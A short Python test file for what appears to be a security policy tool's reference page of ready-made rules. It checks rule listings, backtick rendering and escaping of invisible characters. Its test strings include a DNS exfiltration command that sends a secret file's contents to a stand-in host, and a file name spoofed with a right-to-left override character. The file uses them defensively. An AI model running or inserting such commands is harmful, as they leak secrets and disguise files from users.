"""The page of the ready rules names each, and shows lines as they are."""

from __future__ import annotations

from watchgate.policy.library import library
from watchgate.policy.library_page import reference_page


def test_the_page_has_every_ready_rule_with_what_it_is_about() -> None:
    text = reference_page()

    missing = [
        one.rule.name
        for one in library()
        if f"### {one.rule.name}\n\n{one.rule.description}\n" not in text
    ]

    assert missing == []


def test_a_line_with_backticks_is_shown_whole() -> None:
    text = reference_page()

    assert "``nslookup `cat secret`.example.com``" in text


def test_characters_that_do_not_show_are_written_as_escapes() -> None:
    text = reference_page()

    assert r"`ls \u202ecod.exe`" in text
    assert all(one.isprintable() or one == "\n" for one in text)
